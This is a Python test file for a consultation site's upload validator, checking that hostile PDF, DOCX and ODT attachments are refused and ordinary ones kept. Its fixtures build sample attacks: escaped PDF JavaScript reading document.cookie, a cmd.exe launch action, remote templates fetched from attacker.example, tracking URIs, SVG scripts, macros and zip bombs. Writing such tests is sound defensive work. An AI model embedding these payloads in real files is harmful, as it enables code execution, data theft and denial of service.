"""Files that would run, open or fetch something, or unpack to gigabytes, are refused
from what they are made of (a PDF's objects, a document's parts), however they hide it;
ordinary documents written the way office suites write them are kept."""
import zipfile
from pathlib import Path

import pytest

from consult.extensions import db
from consult.models import Attachment, Testimony
from tests.files import (
    DOCX,
    ODT,
    PAGES,
    catalog,
    content_types,
    docx_bomb,
    docx_parts,
    odt_parts,
    page,
    pdf,
    pdf_with_object_stream,
    relationships,
    zip_of,
)
from tests.testimonies.test_submit import form_data, submit

REFUSED = "is not a PDF, ODT, DOCX, PNG or JPEG file"
SCRIPT = b"<< /S /J#61vaScript /#4AS (app.alert\\(document.cookie\\)) >>"
WEB_PAGE = b"<html><body><script>fetch('/account/data/download')</script></body></html>"


def docx_with(parts: dict[str, bytes], *declarations: str) -> bytes:
    """A DOCX with more `parts`, and more content type `declarations`."""
    return zip_of(docx_parts() | {"[Content_Types].xml": content_types(*declarations)} | parts)


HOSTILE = {
    # The PDF: the opening action's names written with #-escapes.
    "escaped JavaScript opening action": pdf(catalog(b"/OpenAction 4 0 R"), PAGES, page(),
                                            SCRIPT),
    "escaped launch action on a link": pdf(
        catalog(), PAGES, page(b"/Annots [4 0 R]"),
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /L#61#75nch /F (cmd.exe) >> >>"),
    "script inside a compressed object stream": pdf_with_object_stream(
        [catalog(b"/OpenAction 5 0 R"), PAGES], [page(), b"<< /S /JavaScript /JS 6 0 R >>"]),
    "document-level script in the names tree": pdf_with_object_stream(
        [catalog(b"/Names 4 0 R"), PAGES],
        [page(), b"<< /#4A#61#76#61Script << /Names [(x) 5 0 R] >> >>",
         b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"]),
    "additional actions of a page in an object stream": pdf_with_object_stream(
        [catalog(), PAGES], [page(b"/#41A << /O << /S /URI /URI (https://tracker.example) >> >>")]),
    "additional actions of a page": pdf(catalog(), PAGES, page(b"/#41A << /O 4 0 R >>"),
                                        b"<< /S /URI /URI (https://example.org) >>"),
    "opening action that opens a web page": pdf(
        catalog(b"/OpenAction << /S /URI /URI (https://tracker.example/open) >>"), PAGES, page()),
    "embedded file": pdf(catalog(b"/Names << /EmbeddedFiles 4 0 R >>"), PAGES, page(),
                         b"<< /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >>"),
    "object left out of the cross-reference table": pdf(catalog(), PAGES, page()) + (
        b"9 0 obj\n<< /Type /Page /Parent 2 0 R /#41#41 << /O 10 0 R >> >>\nendobj\n"),
    "XFA form": pdf(catalog(b"/AcroForm << /Fields [] /XFA 4 0 R >>"), PAGES, page(),
                    b"<< /Length 0 >>\nstream\n\nendstream"),
    "damaged PDF that cannot be read through": b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
    # The DOCX: a web page with a script in a compressed part.
    "web page part": docx_with({"word/afchunk.htm": WEB_PAGE},
                               '<Default Extension="htm" ContentType="text/html"/>'),
    "web page declared by its type only": docx_with(
        {"word/chunk1.dat": WEB_PAGE},
        '<Override PartName="/word/chunk1.dat" ContentType="application/xhtml+xml"/>'),
    "macro-enabled main part": zip_of(docx_parts() | {
        "[Content_Types].xml": content_types().replace(
            b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")}),
    "ActiveX control": docx_with({"word/activeX/activeX1.xml": b"<ax/>"}),
    "script file": docx_with({"word/media/run.js": b"WScript.Shell"}),
    "SVG image with a script": docx_with(
        {"word/media/image1.svg": b'<svg xmlns="http://www.w3.org/2000/svg">'
                                  b'<script>alert(1)</script></svg>'}),
    "SVG image with an event handler": docx_with(
        {"word/media/image1.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'}),
    "template fetched from a web address": docx_with({
        "word/_rels/settings.xml.rels": relationships(
            ("attachedTemplate", "https://attacker.example/t.dotm", "External"))}),
    "template fetched from a network share": docx_with({
        "word/_rels/settings.xml.rels": relationships(
            ("attachedTemplate", "\\\\attacker.example\\modeles\\t.dotm", "External"))}),
    "image fetched from a web address": docx_with({
        "word/_rels/document.xml.rels": relationships(
            ("image", "https://tracker.example/pixel.png", "External"))}),
    "content types with a document type": docx_with({"[Content_Types].xml": (
        b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa">]><Types/>')}),
    # The zip bomb: 2 MB unpacking to 2 GiB.
    "zip bomb": docx_bomb(),
    "ODT with a Basic macro": zip_of(odt_parts() | {"Basic/Standard/Module1.xml": b"<x/>"}),
    "ODT declaring a script": zip_of(odt_parts(
        '<manifest:file-entry manifest:full-path="Scripts/python/run.py" '
        'manifest:media-type="application/binary"/>'
        '<manifest:file-entry manifest:full-path="run.dat" '
        'manifest:media-type="text/javascript"/>') | {"run.dat": b"alert(1)"}),
    "ODT without its manifest": zip_of({name: content for name, content in odt_parts().items()
                                        if name != "META-INF/manifest.xml"}),
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_documents_are_refused(client, make_consultation, app, content):
    consultation = make_consultation()
    name = "memoire.pdf" if content.startswith(b"%PDF") else "memoire.docx"
    response = submit(client, consultation, form_data(consultation), [(name, content)])
    assert REFUSED in response.get_data(as_text=True)
    assert db.session.query(Testimony).count() == 0
    assert list(Path(app.config["UPLOAD_DIR"]).iterdir()) == []


def test_a_zip_bomb_is_refused_from_its_directory_without_unpacking_it(
        client, make_consultation, monkeypatch):
    opened = []
    original_open = zipfile.ZipFile.open

    def open_part(archive, part, *args, **kwargs):
        opened.append(getattr(part, "filename", part))
        return original_open(archive, part, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", open_part)
    consultation = make_consultation()
    bomb = docx_bomb()
    assert 2_000_000 < len(bomb) < 2_200_000
    response = submit(client, consultation, form_data(consultation), [("memoire.docx", bomb)])
    assert REFUSED in response.get_data(as_text=True)
    assert opened == []


def test_a_zip_of_many_small_highly_compressed_parts_is_refused(client, make_consultation):
    consultation = make_consultation()
    padding = {f"word/media/pad{i}.xml": bytes(900_000) for i in range(20)}
    content = docx_with(padding)
    assert len(content) < 100_000  # 18 MB unpacked: a ratio of more than 100
    response = submit(client, consultation, form_data(consultation), [("memoire.docx", content)])
    assert REFUSED in response.get_data(as_text=True)


WEB_TEXT = b"BT (Nos pages <html> n'ont ni <script> ni liens javascript:) Tj ET"
ORDINARY = {
    "one-page PDF": (pdf(catalog(), PAGES, page()), "application/pdf"),
    "PDF 1.5 with an object stream, a link and an opening page": (pdf_with_object_stream(
        [catalog(b"/OpenAction 4 0 R"), PAGES],
        [page(b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
              b"/A << /S /URI /URI (https://example.org/rapport) >> >>]"), b"[3 0 R /Fit]"]),
        "application/pdf"),
    "PDF whose text speaks of web pages": (pdf(
        catalog(), PAGES, page(b"/Contents 4 0 R"),
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(WEB_TEXT), WEB_TEXT)),
        "application/pdf"),
    "DOCX with a web link and a plain SVG image": (docx_with(
        {"word/media/image1.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>'},
        '<Default Extension="svg" ContentType="image/svg+xml"/>'),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "DOCX made from a template on the author's disk": (docx_with({
        "word/_rels/settings.xml.rels": relationships((
            "attachedTemplate", "file:///C:\\Users\\coordo\\Modèles\\Mémoire.dotx",
            "External"))}),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "DOCX": (DOCX, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "ODT": (ODT, "application/vnd.oasis.opendocument.text"),
}


@pytest.mark.parametrize("content, media_type", ORDINARY.values(), ids=ORDINARY.keys())
def test_ordinary_documents_are_kept(client, make_consultation, content, media_type):
    consultation = make_consultation()
    response = submit(client, consultation, form_data(consultation), [("memoire", content)])
    assert response.request.path.startswith("/receipt/")
    assert db.session.execute(db.select(Attachment.media_type)).scalar_one() == media_type
